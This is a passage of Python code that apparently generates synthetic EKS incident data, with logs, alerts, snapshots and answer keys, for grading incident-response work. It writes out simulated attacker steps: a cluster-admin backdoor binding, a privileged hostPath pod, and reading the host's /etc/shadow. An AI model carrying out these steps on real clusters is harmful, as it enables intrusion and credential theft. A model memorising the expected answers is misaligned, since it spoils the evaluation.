    audit(tk, M.u_node(node, C["node_role"], C["node_role_id"]), "create", f"/api/v1/namespaces/{ns}/serviceaccounts/{C['sa']}/token",
          oref("serviceaccounts", ns, C["sa"], sub="token"), code=201, level="Request", ua=C["kubelet"], src=[node.ip],
          req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
               "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607,
                        "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": pod, "uid": pod_uid}}},
          label="attack", step="k8s-pod-scheduled")
    ts = later(t, 5)
    audit(ts, M.u_node(node, C["node_role"], C["node_role_id"]), "patch", f"/api/v1/namespaces/{ns}/pods/{pod}/status",
          oref("pods", ns, pod, sub="status", uid_=pod_uid), level="Request", ua=C["kubelet"], src=[node.ip],
          req={"metadata": {"uid": pod_uid}, "status": {"phase": "Running", "hostIP": node.ip, "podIP": C["pod_ip"], "containerStatuses": [
              {"name": "debug", "image": C["pod_image"], "ready": True, "started": True,
               "containerID": "containerd://" + M.container_id(ns, pod, "debug"), "state": {"running": {"startedAt": iso_s(ts)}}}]}},
          label="attack", step="k8s-pod-scheduled")
    # a shell in it (the Python client's stream: WebSocket, verb get), chroot into the host, read /etc/shadow
    t = T("11:11:30.118462")
    sg_exec(t, T("11:15:02.640915"), pod, "debug", ["/bin/sh"], "get", S_, "attack", "k8s-exec-debug-pod")
    sg_shell_alert(later(t, 0, 300, 700), 904, pod, "debug", C["pod_image"], node, "attack", "runtime-host-access",
                   exe="/bin/busybox")
    repo, tag = C["pod_image"].rsplit(":", 1)
    cid = M.container_id(ns, pod, "debug")[:12]
    falco(T("11:12:14.771806"), 338, "Read sensitive file untrusted", "Warning", node.name,
          ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
          "Sensitive file opened for reading by non-trusted program",
          fields=dict(M.container_fields(pod, ns, cid, repo, tag, "debug"),
                      **M.proc_fields("openat", "root", 0, "cat", "/usr/bin/cat", "sh", "cat /etc/shadow", 34816),
                      **{"fd.name": "/etc/shadow", "proc.aname[2]": "chroot", "proc.aname[3]": "sh", "proc.aname[4]": "runc"}),
          text_fields=[("file", "/etc/shadow"), ("gparent", "chroot"), ("ggparent", "sh"), ("gggparent", "runc")]
                      + M.proc_text("openat", "root", 0, "cat", "/usr/bin/cat", "sh", "cat /etc/shadow", 34816)
                      + M.container_text(pod, ns, cid, repo, tag, "debug"),
          step="runtime-host-access")
    audit(T("11:16:40.305522"), verb="list", uri="/api/v1/nodes", objref=oref("nodes"), level="Request", step="k8s-enumerate-nodes", **S_)
    SG["t"] = {"pod": T("11:09:55.507314"), "crb": T("11:07:25.840117"), "sa": T("11:07:02.318240")}


def sg_snapshot():
    C = SG
    A, B_ = C["nodes"]
    ns, dep = C["ns"], C["deploy"]
    pods = system_pod_objects(C, T("04:16:02", "2026-05-08"), ["10.116.18.40", "10.116.44.66"])
    labels = {"app.kubernetes.io/name": dep, "pod-template-hash": C["rs_new"]}
    rs_new, rs_old = f"{dep}-{C['rs_new']}", f"{dep}-{C['rs_old']}"
    for name, n, ip in C["api_pods"]:
        pods.append(M.make_pod(name, ns, T("07:39:44"), sg_api_containers(C["image_new"]), n, ip, labels=labels,
                               owner_ref=owner_ref("ReplicaSet", rs_new, ns), sa="ledger-api", generate_name=rs_new + "-"))
    bad = M.make_pod(C["pod"], ns, SG["t"]["pod"], sg_debug_containers(), C["pod_node"], C["pod_ip"], labels={"app": C["sa"]},
                     sa=C["sa"], volumes=[{"name": "host", "hostPath": {"path": "/", "type": ""}}], tolerations=[{"operator": "Exists"}])
    bad["spec"]["hostPID"] = True
    pods.append(bad)
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    tl = {"app.kubernetes.io/name": dep}
    ldep = M.deployment(dep, ns, "2025-07-16T10:02:41Z", 2, tl, tl, sg_api_containers(C["image_new"]), "ledger-api", C["rs_new"], 58)
    ldep["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{dep}")
    rss = []
    for h, img, n, rev, created in ((C["rs_old"], C["image_old"], 0, 57, "2026-05-07T15:20:08Z"),
                                    (C["rs_new"], C["image_new"], 2, 58, "2026-05-12T07:39:41Z")):
        rs = M.replicaset(dep, ns, h, created, n, tl, sg_api_containers(img), "ledger-api", rev)
        rs["metadata"]["uid"] = stable_uuid(f"ReplicaSet/{ns}/{dep}-{h}")
        rs["metadata"]["ownerReferences"] = [owner_ref("Deployment", dep, ns)]
        rss.append(rs)
    crbs = M.system_crbs("2025-07-14T09:30:12Z") + [metrics_server_crb("2025-07-14T09:41:55Z")]
    backdoor = M.crb(C["crb"], "cluster-admin", [M.SA(C["sa"], ns)], iso_s(SG["t"]["crb"]))
    backdoor["metadata"]["uid"] = stable_uuid("crb/" + C["crb"])
    crbs.append(backdoor)
    crbs.sort(key=lambda o: o["metadata"]["name"])
    sas = system_serviceaccounts("2025-07-14T09:30:12Z") + [M.serviceaccount("ledger-api", ns, "2025-07-16T10:02:40Z"),
                                                             M.serviceaccount("default", ns, "2025-07-16T10:02:38Z"),
                                                             M.serviceaccount(C["sa"], ns, iso_s(SG["t"]["sa"]))]
    nodes = [M.node_object(n, "eun1-az" + str(i + 1), C["snap"], "v1.32.1-eks-5d632ec", "ami-0c1d2e3f4a5b6c7d8") for i, n in enumerate(C["nodes"])]
    admin_arn, dev_arn = sg_role_arn(C["admin_sso"]), sg_role_arn(C["dev_sso"])
    principals = [f"arn:aws:iam::{S().account}:role/{C['node_role']}", admin_arn, dev_arn]
    snap = {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "deployments.json": k8s_list([ldep]),
            "replicasets.json": k8s_list(rss), "serviceaccounts.json": k8s_list(sas), "clusterrolebindings.json": k8s_list(crbs),
            "configmaps-kube-system.json": k8s_list([M.aws_auth(f"arn:aws:iam::{S().account}:role/{C['node_role']}", "2025-07-14T09:35:20Z")]),
            "eks-describe-cluster.json": describe_cluster(C, "1.32", "eks.9", ["0.0.0.0/0"], ["api", "audit", "authenticator"],
                                                          tags={"env": "production", "team": "ledger"}),
            "eks-list-access-entries.json": {"accessEntries": sorted(principals)}}
    for key, arn, role, created in (("platformadmin", admin_arn, C["admin_sso"], "2025-07-14T09:44:02.000000+00:00"),
                                    ("developer", dev_arn, C["dev_sso"], "2025-09-03T13:20:17.000000+00:00")):
        snap[f"eks-describe-access-entry-{key}.json"] = access_entry_doc(
            arn, f"arn:aws:sts::{S().account}:assumed-role/{role}/{{{{SessionName}}}}", [], created)
        snap[f"eks-list-associated-access-policies-{key}.json"] = {
            "clusterName": S().cluster, "principalArn": arn,
            "associatedAccessPolicies": [{"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
                                          "accessScope": {"type": "cluster", "namespaces": []}, "associatedAt": created,
                                          "modifiedAt": created}]}
    return snap


SG_STEPS = {
    "aws-recon": "dana.kovacs@example.com's Developer session, stolen (another session key, ASIAVQ7LEDGRSTOLEN5K), from 203.0.113.88 with aws-cli on Linux: GetCallerIdentity, update-kubeconfig",
    "k8s-list-secrets": "lists the secrets of namespace ledger (kubectl 1.29 for Linux; the Developer access entry has AmazonEKSClusterAdminPolicy)",
    "k8s-read-secret": "reads ledger/ledger-db, the secret three engineers read that morning",
    "k8s-exec-app-pod": "exec (SPDY, verb create) with a terminal into the ledger-api replica on node B, the very pod both platform admins exec'd into that morning",
    "runtime-shell-app-pod": "Falco on node B: Terminal shell in container (ledger-api) at the time of the attacker's exec",
    "k8s-create-serviceaccount": "creates ServiceAccount ledger/ledger-ops",
    "k8s-create-clusterrolebinding": "creates ClusterRoleBinding ledger-ops-admin: cluster-admin for ServiceAccount ledger/ledger-ops",
    "k8s-create-token": "requests a one-year token for ledger-ops (serviceaccounts/token, expirationSeconds 31536000)",
    "k8s-create-privileged-pod": "as system:serviceaccount:ledger:ledger-ops from 203.0.113.88 (the Python client): creates pod ledger/ledger-ops-debug: alpine, privileged, hostPID, hostPath / at /host, tolerates everything",
    "k8s-pod-scheduled": "the scheduler binds it to node B; the kubelet requests its token (ledger/ledger-ops) and reports it running",
    "k8s-exec-debug-pod": "the service account execs a shell in ledger-ops-debug (WebSocket, verb get)",
    "runtime-host-access": "Falco on node B: Terminal shell in container (debug), then Read sensitive file untrusted: cat /etc/shadow after chroot /host",
    "k8s-enumerate-nodes": "the service account lists the nodes",
    "lookalike-farid-rollout": "benign: farid.haddad@example.com (Developer) from the office sets ledger-api's image to a new build from the account's ECR (kubectl set image)",
    "rollout-controllers": "benign: the deployment-controller and replicaset-controller roll that change out (ReplicaSet ledger-api-5f8b7c9d46 and its two pods, one per node)",
    "lookalike-secret-reads": "benign: farid (07:44), chen.wei@example.com (08:53) and bob.lindqvist@example.com (09:36) read ledger/ledger-db from the office",
    "lookalike-admin-exec": "benign: alice.novak@example.com (09:12) and bob.lindqvist@example.com (09:31), PlatformAdmin, exec a shell into the same ledger-api replica from the office (kubectl 1.32 for macOS, verb get); Falco reports both shells",
    "lookalike-dana-own-work": "benign: dana.kovacs@example.com's own work from the office the hour before, with her own session key (ASIAVQ7LEDGRDANA5H8P): list pods, get and list deployments — the same username as the stolen session",
    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
}


def sg_consistency(docs):
    problems = []
    C = SG
    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
    A, B_ = C["nodes"]
    if pods[C["pod"]]["spec"]["nodeName"] != B_.name or pods[C["shared_pod"]]["spec"]["nodeName"] != B_.name:
        problems.append("snapshot: the debug pod and the shared replica must both run on node B")
    for ev in docs["k8s-audit/kube-apiserver-audit.log"]:
        o = ev.get("objectRef", {})
        if ev["verb"] == "create" and o.get("subresource") == "binding" and o.get("name") in pods:
            if pods[o["name"]]["spec"]["nodeName"] != ev["requestObject"]["target"]["name"]:
                problems.append(f"audit: binding of {o['name']} names another node than the snapshot")
    for a in docs["falco/falco.jsonl"]:
        p = pods.get(a["output_fields"].get("k8s.pod.name"))
        if p is None or p["spec"]["nodeName"] != a["hostname"]:
            problems.append(f"falco: {a['rule']} at {a['time']} names a pod not on its host")
    # the premise: five people, five session keys, one office address, in both CloudTrail and the audit log
    office_ct, office_k8s = {}, {}
    for rel, d in docs.items():
        if rel.startswith("cloudtrail/") and rel.endswith(".json.gz"):
            for r in d["Records"]:
                if r["sourceIPAddress"] == C["office_ip"]:
                    office_ct.setdefault(r["userIdentity"]["arn"].rsplit("/", 1)[1], set()).add(r["userIdentity"]["accessKeyId"])
    for ev in docs["k8s-audit/kube-apiserver-audit.log"]:
        if C["office_ip"] in ev["sourceIPs"]:
            office_k8s.setdefault(ev["user"]["extra"]["sessionName"][0], set()).update(ev["user"]["extra"]["accessKeyId"])
    want = {s: {k} for s, _, k in C["people"].values()}
    if office_ct != want or office_k8s != want:
        problems.append("the office address is not used by exactly the five engineers, each with their own key")
    if C["office_ip"] in (r["sourceIPAddress"] for rel, d in docs.items() if rel.endswith(".json.gz") for r in d["Records"]
                          if r["userIdentity"].get("accessKeyId") == C["stolen_key"]):
        problems.append("the stolen key must not be used from the office")
    return problems


def build_shared_ground(out):
    sg_world()
    C = SG
    sg_benign()
    sg_attack()
    audit_background(C, T("07:05:09.310442"), T("12:05:00"), gap=(45, 80))
    cloudtrail_background(C, range(7, 12))
    base = os.path.join(out, "shared-ground")
    files = {}
    write_ct_s3(base, files, ct_records())
    dana = C["people"]["dana"][0]
    write_ct_lookup(base, files, ct_records(lambda r: r["userIdentity"].get("arn", "").endswith("/" + dana)),
                    f"cloudtrail/lookup-events-{dana.split('@')[0]}.json", lambda r: dana)
    evs = audit_events()
    write_audit_log(base, files, evs)
    write_audit_filter(base, files, [ev for ev in evs if ev["user"]["username"].endswith("/" + dana)],
                       ["kube-apiserver-audit-3a5c7e9b1d2f46a8c0e2b4d6f8a1c3e5", "kube-apiserver-audit-c4e6a8b0d2f145a7c9e1b3d5f7a9c2e4"])
    write_falco(base, files)
    write_snapshot(base, files, sg_snapshot())
    A, B_ = C["nodes"]
    admin_arn, dev_arn = sg_role_arn(C["admin_sso"]), sg_role_arn(C["dev_sso"])
    uname = f"arn:aws:sts::{S().account}:assumed-role/{C['dev_sso']}/{dana}"
    shared, other = C["shared_pod"], C["api_pods"][0][0]
    head = {
        "scenario": "shared-ground",
        "summary": (f"Five engineers work on {S().cluster} ({S().account}, {S().region}) through IAM Identity Center from one office "
                    f"address, {C['office_ip']}, and touch the same objects: two platform admins exec into the same ledger-api replica, "
                    f"three people read {C['ns']}/{C['secret']}, one rolls ledger-api out. At 11:02 the Developer session of {dana} is "
                    f"used with another session key from {C['attacker_ip']}: it reads {C['ns']}/{C['secret']}, opens a shell in that same "
                    f"replica, creates ServiceAccount {C['ns']}/{C['sa']}, binds it to cluster-admin ({C['crb']}) and takes a one-year "
                    f"token, with which it starts the privileged hostPID pod {C['ns']}/{C['pod']} (host / mounted) on {B_.name} and "
                    f"reads the host's /etc/shadow. The organisation policy names no trusted address, admin or pipeline: only the "
                    f"evidence separates the attacker from the engineers."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "unauthorised access to cluster-admin credentials",
             "evidence": f"a stolen session with AmazonEKSClusterAdminPolicy binds cluster-admin to a new service account ({C['crb']}) and uses its token from {C['attacker_ip']}"},
            {"level": "High", "criterion": "suspicious privileged pods",
             "evidence": f"{C['ns']}/{C['pod']}: privileged, hostPID, hostPath / ; a shell in it reads the host's /etc/shadow (Falco)"},
            {"level": "High", "criterion": "exposure of sensitive configuration",
             "evidence": f"the secrets of {C['ns']} listed, {C['ns']}/{C['secret']} read; a one-year cluster-admin token issued"},
            {"level": "High", "criterion": "lateral movement attempts",
             "evidence": f"an interactive shell in the production replica {C['ns']}/{shared}; from a human session to a service account's token; into the node through the privileged pod"},
        ],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "compromised_role": dev_arn, "compromised_session": dana, "k8s_username": uname,
            "stolen_session_key": C["stolen_key"], "legitimate_session_key": C["people"]["dana"][2],
            "attacker_ips": [C["attacker_ip"]], "office_ip": C["office_ip"],
            "engineers": {s: {"role": C["admin_sso"] if r == "admin" else C["dev_sso"], "session_key": k}
                          for s, r, k in C["people"].values()},
            "service_account": f"{C['ns']}/{C['sa']}", "sa_username": f"system:serviceaccount:{C['ns']}:{C['sa']}",
            "token_credential_id": f"JTI={C['token_jti']}", "backdoor_binding": C["crb"],
            "pod": f"{C['ns']}/{C['pod']}", "node": B_.name, "instance_id": B_.instance,
            "not_compromised_node": {A.name: A.instance},
            "shared_replica": f"{C['ns']}/{shared}", "other_replica": f"{C['ns']}/{other}",
            "secret_read": f"{C['ns']}/{C['secret']}",
            "access_policies": {admin_arn: "AmazonEKSClusterAdminPolicy", dev_arn: "AmazonEKSClusterAdminPolicy"},
        },
        "joins": [
            f"the stolen session key {C['stolen_key']} (CloudTrail accessKeyId, audit user.extra.accessKeyId) and {C['attacker_ip']} separate the attack from dana's own work under the same role, session name and Kubernetes username an hour earlier (key {C['people']['dana'][2]}, {C['office_ip']})",
            f"{C['office_ip']} is shared by five sessions with five keys: an address is not an identity, and the office is not the attacker",
            f"ClusterRoleBinding {C['crb']} subject ServiceAccount {C['ns']}/{C['sa']} -> audit user system:serviceaccount:{C['ns']}:{C['sa']} (authorization.k8s.io/reason names the binding; user.extra credential-id = the TokenRequest's issued-credential-id)",
            "pod -> scheduler Binding / snapshot nodeName -> node B -> providerID -> instance; Falco hostname and k8s.pod.name -> the same pod and node",
            f"the shared replica {shared}: three execs (alice 09:12, bob 09:31, the attacker 11:04) and three Falco shells; only the time and the audit identity separate them",
        ],
        "benign_lookalikes": [
            f"alice's and bob's (PlatformAdmin) execs into {shared} from {C['office_ip']} and the Falco shells they cause",
            f"farid's, chen's and bob's reads of {C['ns']}/{C['secret']} from the office",
            f"farid's image change of Deployment {C['ns']}/{C['deploy']} to a new build from the account's ECR, and its rollout",
            f"dana's own list/get from the office at 09:58 with her own session key (same username as the attack)",
            "kube-proxy privileged, aws-node hostNetwork (EKS defaults)",
        ],
        "steps": SG_STEPS,
    }
    expect = {
        "severity": "Critical",
        "criteria": ["critical.cluster_admin", "high.privileged_pods", "high.sensitive_config_exposure", "high.lateral_movement"],
        "criteria_not": ["critical.multiple_nodes", "critical.active_exploitation"],
        "affected": [
            {"kind": "binding", "name": C["crb"], "attributes": {"role": "cluster-admin"}},
            {"kind": "service_account", "name": C["sa"], "namespace": C["ns"]},
            {"kind": "pod", "name": C["pod"], "namespace": C["ns"], "attributes": {"node": B_.name}},
            {"kind": "pod", "name": shared, "namespace": C["ns"], "attributes": {"node": B_.name},
             "why": "the attacker had an interactive shell in this replica"},
            {"kind": "node", "name": B_.name},
            {"kind": "secret", "name": C["secret"], "namespace": C["ns"]},
            {"kind": "ip", "name": C["attacker_ip"]},
            {"kind": "iam_role", "name": C["dev_sso"]},
            {"kind": "cluster", "name": S().cluster},
        ],
        "not_affected": [
            {"kind": "ip", "name": C["office_ip"], "why": "five engineers' egress; the attacker never used it"},
            {"kind": "node", "name": A.name}, {"kind": "instance", "name": A.instance},
            {"kind": "iam_role", "name": C["admin_sso"], "why": "alice and bob only touched the same pod as the attacker"},
            {"kind": "pod", "name": other, "namespace": C["ns"]},
        ] + [{"kind": "access_key", "name": k, "why": f"{s}'s own session key"} for s, _, k in C["people"].values()],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "clusterrolebinding", C["crb"]], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "delete", "serviceaccount", C["sa"]], "flags": {"--namespace": C["ns"]},
             "why": "the attacker holds a one-year cluster-admin token of it: deleting the account invalidates every token issued for it"},
            {"phase": "contain", "argv": [C["dev_sso"]],
             "why": "the stolen Identity Center session must be revoked (an IAM Identity Center action, or a blocked step saying so)"},
            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy", f"namespace: {C['ns']}"]},
            {"phase": "contain", "argv": ["kubectl", "cordon", B_.name], "blocked": False},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", C["pod"]], "flags": {"--namespace": C["ns"]}},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", shared], "flags": {"--namespace": C["ns"]},
             "why": "the attacker had a shell in this production replica: replace it (its ReplicaSet makes a clean one), not the Deployment"},
        ],
        "plan_not": [
            {"phase": "contain", "argv": ["kubectl", "cordon", A.name]},
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "deployment", C["deploy"]],
             "why": "the production Deployment is not the attacker's"},
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "replicaset", f"{C['deploy']}-*"]},
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "pod", other], "why": "the other replica was never touched"},
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "secret", C["secret"]],
             "why": "the secret was read, not made by the attacker: rotate it, do not delete it"},
            {"phase": "contain|eradicate", "argv": [C["admin_sso"]],
             "why": "the platform admins only worked on the same pod from the office"},
            {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", C["dev_sso"]], "why": "a pre-existing permission set's role"},
            {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", C["admin_sso"]]},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "*0.0.0.0/0*"]},
        ],
    }
    counts = finish_truth(out, "shared-ground", head, files, expect,
                          ("lookalike-farid-rollout", "lookalike-secret-reads", "lookalike-admin-exec", "lookalike-dana-own-work"))
    return base, files, counts, check(base, os.path.join(out, "shared-ground.truth.json"), sg_consistency)
# =============================================================================================
# Image scan reports: Amazon Inspector, ECR basic scanning, Trivy and Grype, as each tool writes them
# =============================================================================================
def image_digest(text):
    """The manifest digest (sha256:...) of one pushed build."""
    return "sha256:" + sha("manifest/" + text)


def inspector_finding(image, digest, tags, pushed, last_in_use, in_use, cve, severity, score, vector, exploit, pkgs, title,
                      desc, first, last, source, source_url, vendor_severity, epss=None, last_exploit=None):
    """One `aws inspector2 list-findings` finding of type PACKAGE_VULNERABILITY on an ECR image.
    pkgs: [(name, version, fixed, manager, file_path or None, release or None)]."""
    repo = image.split("/", 1)[1].rsplit(":", 1)[0]
    fid = sha(f"inspector/{digest}/{cve}")[:32]
    f = {"awsAccountId": S().account, "description": desc}
    if epss is not None:
        f["epss"] = {"score": epss}
    f["exploitAvailable"] = "YES" if exploit else "NO"
    if exploit and last_exploit:
        f["exploitabilityDetails"] = {"lastKnownExploitAt": last_exploit}
    f.update({"findingArn": f"arn:aws:inspector2:{S().region}:{S().account}:finding/{fid}",
              "firstObservedAt": first, "fixAvailable": "YES" if all(p[2] for p in pkgs) else "NO", "inspectorScore": score,
              "inspectorScoreDetails": {"adjustedCvss": {"adjustments": [], "cvssSource": "NVD", "score": score, "scoreSource": "NVD",
                                                         "scoringVector": vector, "version": "3.1"}},
              "lastObservedAt": last})
    vp = []
    for name, version, fixed, manager, path, release in pkgs:
        p = {"epoch": 0}
        if path:
            p["filePath"] = path
        p["fixedInVersion"] = fixed or "NotAvailable"
        p["name"] = name
        p["packageManager"] = manager
        if release:
            p["release"] = release
        p["remediation"] = (f"Update {name} to {fixed}" if manager != "OS" else "apt-get update && apt-get upgrade") if fixed else "None Provided"
        p["version"] = version
        vp.append(p)
    f["packageVulnerabilityDetails"] = {
        "cvss": [{"baseScore": score, "scoringVector": vector, "source": "NVD", "version": "3.1"}],
        "referenceUrls": [f"https://www.cve.org/CVERecord?id={cve}"], "relatedVulnerabilities": [], "source": source,
        "sourceUrl": source_url, "vendorCreatedAt": None, "vendorSeverity": vendor_severity, "vulnerabilityId": cve,
        "vulnerablePackages": vp}
    del f["packageVulnerabilityDetails"]["vendorCreatedAt"]
    f["remediation"] = {"recommendation": {"text": "None Provided"}}
    f["resources"] = [{"details": {"awsEcrContainerImage": {
        "architecture": "amd64", "imageHash": digest, "imageTags": tags, "inUseCount": in_use, "lastInUseAt": last_in_use,
        "platform": "UBUNTU_20_04" if "portal" in repo and "report" not in repo else "UBUNTU_22_04",
        "pushedAt": pushed, "registry": S().account, "repositoryName": repo}},
        "id": f"arn:aws:ecr:{S().region}:{S().account}:repository/{repo}/{digest}", "partition": "aws", "region": S().region,
        "type": "AWS_ECR_CONTAINER_IMAGE"}]
    f.update({"severity": severity, "status": "ACTIVE", "title": title, "type": "PACKAGE_VULNERABILITY", "updatedAt": last})
    return f


def trivy_report(created, image, digest, os_family, os_name, results):
    """`trivy image -f json` (schema version 2). results: [(target, class, type, [vulnerability])]."""
    repo = image.rsplit(":", 1)[0]
    meta_ = {"Size": 301989888, "OS": {"Family": os_family, "Name": os_name},
             "ImageID": "sha256:" + sha("config/" + image + digest), "DiffIDs": ["sha256:" + sha(f"layer/{image}/{digest}/{i}") for i in range(3)],
             "RepoTags": [image]}
    if digest:
        meta_["RepoDigests"] = [f"{repo}@{digest}"]
    meta_["ImageConfig"] = {"architecture": "amd64", "os": "linux", "config": {"Entrypoint": ["java", "-jar", "/app/app.jar"]}}
    return {"SchemaVersion": 2, "CreatedAt": created, "ArtifactName": image, "ArtifactType": "container_image", "Metadata": meta_,
            "Results": [{"Target": t, "Class": c, "Type": ty, "Vulnerabilities": v} for t, c, ty, v in results]}


def trivy_vuln(cve, pkg, installed, fixed, severity, title, source="ghsa", v3=None, path=None, purl=None, status=None):
    v = {"VulnerabilityID": cve, "PkgID": f"{pkg}@{installed}", "PkgName": pkg}
    if path:
        v["PkgPath"] = path
    if purl:
        v["PkgIdentifier"] = {"PURL": purl}
    v["InstalledVersion"] = installed
    if fixed:
        v["FixedVersion"] = fixed
    v["Status"] = status or ("fixed" if fixed else "affected")
    v.update({"SeveritySource": source, "PrimaryURL": f"https://avd.aquasec.com/nvd/{cve.lower()}", "Title": title, "Severity": severity})
    if v3:
        v["CVSS"] = {"nvd": {"V3Vector": v3[1], "V3Score": v3[0]}}
    return v


def ecr_basic_scan(repo, digest, tag, completed, db_updated, findings):
    """`aws ecr describe-image-scan-findings` of a basic scan. findings: [(cve, severity, pkg, version, description, uri, v3)]."""
    out, counts = [], {}
    for cve, sev, pkg, version, desc, uri, v3 in findings:
        attrs = [{"key": "package_version", "value": version}, {"key": "package_name", "value": pkg}]
        if v3:
            attrs += [{"key": "CVSS3_VECTOR", "value": v3[1]}, {"key": "CVSS3_SCORE", "value": f"{v3[0]:.1f}"}]
        out.append({"name": cve, "description": desc, "uri": uri, "severity": sev, "attributes": attrs})
        counts[sev] = counts.get(sev, 0) + 1
    return {"imageScanFindings": {"findings": out, "imageScanCompletedAt": float(epoch(completed)),
                                  "vulnerabilitySourceUpdatedAt": float(epoch(db_updated)), "findingSeverityCounts": counts},
            "registryId": S().account, "repositoryName": repo, "imageId": {"imageDigest": digest, "imageTag": tag},
            "imageScanStatus": {"status": "COMPLETE", "description": "The scan was completed successfully."}}


def grype_match(cve, severity, pkg, version, ptype, path, fixes, state, desc, namespace, v3=None, language=""):
    m = {"vulnerability": {"id": cve, "dataSource": f"https://github.com/advisories/{cve}" if cve.startswith("GHSA") else
                           f"https://nvd.nist.gov/vuln/detail/{cve}", "namespace": namespace, "severity": severity,
                           "urls": [], "description": desc,
                           "cvss": [] if not v3 else [{"version": "3.1", "vector": v3[1], "metrics": {"baseScore": v3[0]}, "vendorMetadata": {}}],
                           "fix": {"versions": fixes, "state": state}, "advisories": []},
         "relatedVulnerabilities": [], "matchDetails": [],
         "artifact": {"id": sha(f"grype/{pkg}/{version}")[:16], "name": pkg, "version": version, "type": ptype,
                      "locations": [{"path": path}], "language": language, "licenses": [], "cpes": [],
                      "purl": (f"pkg:golang/{pkg}@{version}" if ptype == "go-module" else f"pkg:deb/debian/{pkg}@{version}?arch=amd64&distro=debian-12"),
                      "upstreams": []}}
    return m


def grype_report(user_input, image_id, matches, timestamp, repo_digests=(), manifest_digest=None):
    target = {"userInput": user_input, "imageID": image_id}
    if manifest_digest:
        target["manifestDigest"] = manifest_digest
    target.update({"mediaType": "application/vnd.docker.distribution.manifest.v2+json", "tags": [user_input], "imageSize": 48234496,
                   "layers": [], "repoDigests": list(repo_digests), "architecture": "amd64", "os": "linux"})
    return {"matches": matches, "ignoredMatches": [], "source": {"type": "image", "target": target},
            "distro": {"name": "debian", "version": "12", "idLike": ["debian"]},
            "descriptor": {"name": "grype", "version": "0.86.1", "configuration": {"output": ["json"]},
                           "db": {"built": timestamp[:10] + "T01:22:40Z", "schemaVersion": 5}, "timestamp": timestamp}}


def write_scan(base, files, rel, doc, count, indent=4):
    write(os.path.join(base, rel), json.dumps(doc, indent=indent, ensure_ascii=False) + "\n")
    files[rel] = count


def image_id_digest(image_id):
    """The digest of a pod's imageID (repository@sha256:...); '' for a bare image id (an image without a repository digest)."""
    return image_id.split("@", 1)[1] if "@" in image_id else ""


# =============================================================================================
# Scenario 7: vulnerable-web-image (prod-portal, ap-northeast-1, 2026-05-19)
# =============================================================================================
V = {}
VW_APP_UA = "fabric8-kubernetes-client/6.9.2"
VW_CI_KUBECTL = "kubectl/v1.32.3 (linux/amd64) kubernetes/32cc146"
VW_CURL = "curl/7.68.0"
GHA_OIDC = "token.actions.githubusercontent.com"


def vw_world():
    new_scenario("vulnerable-web-image", 20260519, "736251409812", "ap-northeast-1", "prod-portal", "2026-05-19",
                 ["10.127.100.14", "10.127.101.230"], "4e6a8c0e2b4d6f8a1c3e5b7d9f0a2c4e")
    V.clear()
    C = V
    cluster_common(C, "prod-portal", "v1.32.2-eks-bc803b4", "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
    C["kube_proxy"] = "v1.32.0-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-portal-node-role", "AROA2VKPRTLNODEROLE4"
    C["ng"] = "prod-portal-general"
    C["nodes"] = [Node("ip-10-127-14-88.ap-northeast-1.compute.internal", "10.127.14.88", "i-0d4e5f6a7b8c9d0e1", "ap-northeast-1a",
                       "ASIA2VKPRTLNODEA1Q7X", "2026-05-15T03:10:22Z", C["ng"]),
                  Node("ip-10-127-47-201.ap-northeast-1.compute.internal", "10.127.47.201", "i-0e5f6a7b8c9d0e1f2", "ap-northeast-1c",
                       "ASIA2VKPRTLNODEB2R8Y", "2026-05-15T03:10:27Z", C["ng"]),
                  Node("ip-10-127-80-36.ap-northeast-1.compute.internal", "10.127.80.36", "i-0f6a7b8c9d0e1f2a3", "ap-northeast-1d",
                       "ASIA2VKPRTLNODEC3S9Z", "2026-05-15T03:10:31Z", C["ng"])]
    A, B_, Cn = C["nodes"]
    C["nat"] = "198.51.100.214"
    C["metrics_server"] = ("metrics-server-7d9c5b8f6-q2w8r", A, "10.127.14.130")
    C["coredns_rs"] = "5c7d8b9f64"
    C["vpc"], C["cluster_sg"] = "vpc-0a4c6e8f0b2d41357", "sg-0b5d7f9a1c3e52468"
    C["subnets"] = {"ap-northeast-1a": "subnet-0c6e8a0b2d4f63579", "ap-northeast-1c": "subnet-0d7f9b1c3e5a7468a",
                    "ap-northeast-1d": "subnet-0e8a0c2d4f6b8579b"}
    C["endpoint"] = "https://C4E6A8B0D2F4A6C8E0B2D4F6A8C0E2B4.gr7.ap-northeast-1.eks.amazonaws.com"
    C["oidc"] = "C4E6A8B0D2F4A6C8E0B2D4F6A8C0E2B4"
    C["created"] = "2025-10-06T02:14:51.204000+00:00"
    C["ami"] = "ami-0a2b4c6d8e0f13579"
    C["ecr"] = ecr = f"{S().account}.dkr.ecr.{S().region}.amazonaws.com"
    C["ns"], C["deploy"], C["container"], C["sa"] = "portal", "customer-portal", "portal", "customer-portal"
